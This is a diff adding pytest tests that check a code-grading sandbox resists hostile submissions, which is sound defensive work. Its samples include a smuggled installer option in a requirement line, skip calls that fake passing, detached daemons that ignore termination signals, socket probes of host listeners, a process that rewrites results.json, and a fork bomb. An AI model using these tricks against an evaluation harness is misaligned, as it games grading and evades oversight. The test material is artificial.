+        "e2e-calcdep; python_version > '0'\n--find-links http://127.0.0.1:{PORT}/",
+    ],
+)
+def test_class8_requirement_lines_cannot_smuggle_installer_options(arena, requirement):
+    # hand-written METADATA: the Requires-Dist values end up in the harness's requirements file
+    backend = WHEEL_BACKEND + (
+        f"REQUIRES[:] = [{requirement.replace('{PORT}', str(arena.port))!r}, 'e2e-calcdep-nope']\n"
+    )
+    arena.submit(
+        add="def add(a, b):\n    return a + b\n",
+        files={"pyproject.toml": BACKEND_PYPROJECT, "_build/e2e_backend.py": backend},
+    )
+    arena.grade()
+    run = arena.run()
+    assert run["status"] != "error", run.get("error")
+    assert arena.verdicts()["R1"] == "not_implemented"
+    arena.check()
+
+
+# === class 9: skips ============================================================================
+
+SKIPPERS = {
+    "skip_in_add": "import pytest\n\ndef add(a, b):\n    pytest.skip('platform not supported')\n",
+    "xfail_in_add": "import pytest\n\ndef add(a, b):\n    pytest.xfail('known issue')\n",
+    "skiptest_in_add": "import unittest\n\ndef add(a, b):\n    raise unittest.SkipTest('later')\n",
+    "importorskip_in_add": (
+        "import pytest\n\ndef add(a, b):\n    pytest.importorskip('e2e_not_installed')\n"
+    ),
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("skipper", sorted(SKIPPERS))
+def test_class9_skips_from_the_project_count_as_not_passed(arena, skipper):
+    arena.submit(add=SKIPPERS[skipper])
+    arena.grade()
+    run = arena.assert_r1_fails()
+    metrics = run["metrics"]
+    assert metrics["pass_rate"] is not None and metrics["pass_rate"] < 1.0, metrics
+    assert metrics["pass_rate"] == pytest.approx(4 / 7), metrics  # 4 of 7 reference tests
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class9_module_level_skip_from_the_project(arena):
+    arena.submit(
+        add="def add(a, b):\n    return 0\n",
+        at_import="import pytest\npytest.skip('unsupported', allow_module_level=True)\n",
+    )
+    arena.grade()
+    run = arena.assert_r1_fails()
+    assert run["metrics"]["pass_rate"] in (0, 0.0), run["metrics"]
+    arena.check()
+
+
+# === daemons, the host network, results.json, the uv cache =====================================
+
+DAEMONS = {
+    "double_fork_in_add": "return False\n",  # the harm's own daemon
+    "nohup_shell": (
+        "import subprocess, sys\n"
+        'subprocess.Popen([\'sh\', \'-c\', \'nohup "$0" -c "import time; time.sleep(200)" "$1" '
+        "</dev/null >/dev/null 2>&1 &', sys.executable, '{MARKER}'])\n"
+        "return False\n"
+    ),
+    "setsid_fork": (
+        "import subprocess, sys\n"
+        "subprocess.Popen(['setsid', '-f', sys.executable, '-c', 'import time; time.sleep(200)', "
+        "'{MARKER}'], start_new_session=True)\n"
+        "return False\n"
+    ),
+    "ignore_sigterm_and_hup": (
+        "import os, signal, sys\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
+        "        signal.signal(s, signal.SIG_IGN)\n"
+        "    os.execv(sys.executable, [sys.executable, '-c', 'import signal, time\\n"
+        "for s in (signal.SIGTERM, signal.SIGHUP):\\n    signal.signal(s, signal.SIG_IGN)\\n"
+        "time.sleep(200)', '{MARKER}'])\n"
+        "return False\n"
+    ),
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("how", sorted(DAEMONS))
+def test_daemons_from_the_test_run_do_not_survive(arena, how):
+    arena.submit(attack=DAEMONS[how].replace("{MARKER}", arena.marker))
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("where", ["setup_py", "backend_query"])
+def test_daemons_network_and_cache_from_the_build(arena, where):
+    # from setup.py (the build) or from a backend's import (asked for its build requirements)
+    payload = arena.standalone(f"build-{where}") + (
+        "import socket\n"
+        "for port in (CFG_PORT,):\n"
+        "    try:\n"
+        "        socket.create_connection(('127.0.0.1', port), timeout=1).close()\n"
+        "        open('calc/_reached.py', 'w').write('REACHED = True\\n')\n"
+        "    except OSError:\n"
+        "        pass\n"
+    ).replace("CFG_PORT", str(arena.port))
+    files: dict[str, str] = {}
+    if where == "setup_py":
+        files["setup.py"] = payload + "from setuptools import setup\nsetup()\n"
+    else:
+        files["_build/e2e_backend.py"] = payload + "from setuptools.build_meta import *  # noqa\n"
+        files["pyproject.toml"] = (
+            '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "e2e_backend"\n'
+            'backend-path = ["_build"]\n\n[project]\nname = "calc"\nversion = "0.1"\n\n'
+            '[tool.setuptools]\npackages = ["calc"]\n'
+        )
+    attack = "try:\n    from ._reached import REACHED\nexcept ImportError:\n    return False\nreturn REACHED\n"
+    arena.submit(attack=attack, files=files)
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+def test_network_from_the_test_run_reaches_no_host_listener(arena):
+    attack = (
+        "import socket\n"
+        "ok = False\n"
+        "for family, address in ((socket.AF_INET, ('127.0.0.1', {PORT})), "
+        "(socket.AF_UNIX, '{UNIX}'), (socket.AF_UNIX, '\\0{MARKER}'), "
+        "(socket.AF_INET6, ('::1', {PORT}))):\n"
+        "    try:\n"
+        "        s = socket.socket(family, socket.SOCK_STREAM)\n"
+        "        s.settimeout(1)\n"
+        "        s.connect(address)\n"
+        "        ok = True\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "return ok\n"
+    )
+    attack = (
+        attack.replace("{PORT}", str(arena.port))
+        .replace("{UNIX}", str(arena.unix_path))
+        .replace("{MARKER}", arena.marker)
+    )
+    arena.submit(attack=attack)
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+def test_results_json_cannot_be_rewritten_by_a_lingering_process(arena):
+    # the harm's daemon waits for results.json and marks every requirement implemented
+    arena.submit(add="from ._harm import _harm\n\ndef add(a, b):\n    _harm('add')\n    return 0\n")
+    arena.grade()
+    time.sleep(2)
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(400)
+def test_a_fork_bomb_in_one_run_does_not_sink_a_concurrent_honest_run(arena):
+    # sandboxed code of every run is the same unprivileged user: its process limit is shared
+    hold = (
+        "import os, time\n"
+        "kids = 0\n"
+        "for _ in range(4000):\n"
+        "    try:\n"
+        "        pid = os.fork()\n"
+        "    except OSError:\n"
+        "        break\n"
+        "    if pid == 0:\n"
+        "        os.execv('/bin/sleep', ['/bin/sleep', '90', MARKER])\n"
+        "    kids += 1\n"
+        "time.sleep(45)\n"
+    ).replace("MARKER", repr(arena.marker))
+    backend = hold + "from setuptools.build_meta import *  # noqa\n"
+    pyproject = (
+        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "e2e_backend"\n'
+        'backend-path = ["_build"]\n\n[project]\nname = "calc"\nversion = "0.1"\n\n'
+        '[tool.setuptools]\npackages = ["calc"]\n'
+    )
+    arena.submit(
+        add="def add(a, b):\n    return 0\n",
+        files={"pyproject.toml": pyproject, "_build/e2e_backend.py": backend},
+    )
+    arena.tasks.make("honest", toml_extra=FAST)
+    arena.tasks.reference(arena.root / "out" / "honest", CALC_CODE)
+    arena.grade("-n", "2")
+    honest = arena.run("honest")
+    assert honest["metrics"]["impl_rate"] == 1.0, (honest.get("notes"), honest.get("test_run"))
+    arena.assert_r1_fails()
+    arena.check()
